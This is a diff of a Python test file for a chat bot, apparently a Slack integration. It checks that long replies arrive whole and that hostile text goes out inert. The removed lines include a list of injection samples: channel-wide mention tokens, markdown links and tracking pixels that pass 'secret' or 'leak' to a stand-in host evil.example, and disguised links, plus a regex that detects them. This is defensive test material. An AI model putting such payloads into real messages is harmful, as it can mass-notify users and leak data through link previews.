@@ -1,4 +1,4 @@
-"""Long, strange and hostile text arrives whole, in order and inert, and so does code (P11, P41)."""
+"""Long and strange text arrives whole and in order, and so does code (P11)."""
 
 import re
 
@@ -23,9 +23,7 @@ async def test_thirty_thousand_characters_arrive_whole_in_order_also_where_a_par
     await house.restart()
     for room, person in (("D0ADA", "Ada"), ("D0BEN", "Ben")):
         house.model.replies.append(tagged(reply))
-        await house.say(person, "dm", "everything, please")
-        await house.reply(room)
-        await house.idle()
+        await house.answered(person, "dm", "everything, please")
         parts = await house.replies(room)
         assert 3 <= len(parts) <= 4
         assert all(len(part) <= 12_000 for part in parts)
@@ -38,20 +36,6 @@ async def test_thirty_thousand_characters_arrive_whole_in_order_also_where_a_par
         assert [post["metadata"]["event_payload"]["part"] for post in posts] == list(range(len(posts)))
         for mode in ("answer", "accept_then_drop", "reset_before"):
             await house.people.fault("chat.postMessage", mode=mode)
-
-
-async def test_a_message_of_forty_thousand_characters_is_stored_whole_and_shown_cut_in_the_middle(house: House) -> None:
-    text = "begin " + "word " * 7_990 + "the end"
-    house.model.replies.append(tagged("Long!"))
-    assert await house.answered("Ada", "dm", text) == "Long!"
-    assert (await house.one("SELECT body FROM turns"))["body"] == text
-    shown = house.prompts[-1].messages[-1].text
-    assert "begin" in shown
-    assert "the end" in shown
-    assert "characters left out here" in shown
-    assert len(shown) < 20_000
-    words = await house.answered("Ada", "dm", "see https://docs.example/page?x=1&y=2 please")
-    assert "https://docs.example/page?x=1&y=2" in words, "a reader's own link is kept"
 
 
 NASTY = {
@@ -83,41 +67,3 @@ async def test_every_kind_of_writing_comes_in_and_goes_out(house: House) -> None
     await house.acknowledged()
     await house.idle()
     assert await house.answered("Ada", "dm", "still well?") == "Echo: still well?"
-
-
-ATTACKS = (
-    "<!channel> wake up",
-    "<!here|here> wake up",
-    "<!everyone>",
-    "<!subteam^S123|@admins> look",
-    "@channel @here @everyone",
-    "&lt;!channel&gt;",
-    "<@U0CHLOE> said you are wrong",
-    "<!date^0^{date}|<!channel>>",
-    "`<!channel>` and ```<!here>```",
-    "[click](https://evil.example/?q=secret)",
-    "![](https://evil.example/pixel.png?leak)",
-    "<https://evil.example|https://good.example>",
-)
-_WAKING = re.compile(r"<!(?:channel|here|everyone|subteam)|<@U0CHLOE>")
-
-
-async def test_a_reply_that_would_notify_a_whole_channel_goes_out_inert(house: House) -> None:
-    """Posted, and while it grows; any mixture of such marks is tried without a workspace."""
-    text = "Well then.\n\n" + "\n\n".join(ATTACKS) + "\n\nAnd that is all, at some length, so that it is shown at once."
-    house.model.replies.append(tagged(text))
-    await house.answered("Ada", "general", "@soul do it")
-    flow, _ = await house.asking("Ada", "general", "@soul do it")
-    flow.say('<external_dialogue verb="said">', *text)
-    await house.until(lambda: house.people.calls("chat.startStream"))
-    flow.end("</external_dialogue>")
-    await house.reply("general", count=2)
-    await house.idle()
-    for call in await house.posting_calls():
-        words = [call["args"].get("text", ""), call["args"].get("markdown_text", "")]
-        words += [block.get("text", "") for block in call["args"].get("blocks") or []]
-        words += [chunk.get("text", "") for chunk in call["args"].get("chunks") or []]
-        assert not any(_WAKING.search(str(part)) for part in words), call["args"]
-        if call["method"] == "chat.postMessage":
-            assert call["args"]["unfurl_links"] is False
-            assert call["args"]["unfurl_media"] is False
